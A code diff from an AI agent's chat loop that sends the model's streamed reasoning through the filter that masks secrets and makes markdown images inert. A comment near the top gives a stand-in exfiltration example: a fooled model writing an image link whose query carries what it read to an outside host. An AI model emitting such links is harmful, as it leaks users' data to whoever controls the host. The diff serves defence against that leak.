@@ -3,7 +3,9 @@
 // URL unasked made inert (core/markdown-images.ts): an editor's agent panel or a chat page would
 // otherwise send a fooled model's `![x](https://host/?q=<what it read>)` out with no rule asked.
 // The answer kept (history, the final text, what is stored and resumed) is made inert the same
-// way, so every later reader sees what was streamed.
+// way, so every later reader sees what was streamed. Reasoning streams through the same filter;
+// the reasoning kept is left as the provider signed it (it goes back to the provider only), and
+// an editor's replay of it is made inert there (acp/session-replay.ts).
 import { serializeError } from "../core/errors.js";
 import { inertImageStream, inertImages } from "../core/markdown-images.js";
 import type { ChatRequest, ChatResult } from "../providers/index.js";
@@ -40,7 +42,7 @@ export async function chatOnce(state: RunState, request: ChatRequest): Promise<C
   // The text as it streams is masked across deltas (a key split over two is still caught): a
   // delta shows what can no longer turn out to be part of a secret, the rest at the end.
   let text = textFilter(state, inert);
-  let thinking = state.deps.secrets?.redactStream();
+  let thinking = textFilter(state, inert);
   const emitText = (type: "text_delta" | "thinking_delta", delta: string) => {
     if (delta !== "") state.emit({ type, delta });
   };
@@ -55,7 +57,7 @@ export async function chatOnce(state: RunState, request: ChatRequest): Promise<C
         if (text) emitText("text_delta", text.end());
         if (thinking) emitText("thinking_delta", thinking.end());
         text = textFilter(state, inert);
-        thinking = state.deps.secrets?.redactStream();
+        thinking = textFilter(state, inert);
         const { notice } = event;
         state.emit({
           type: "provider_retry",
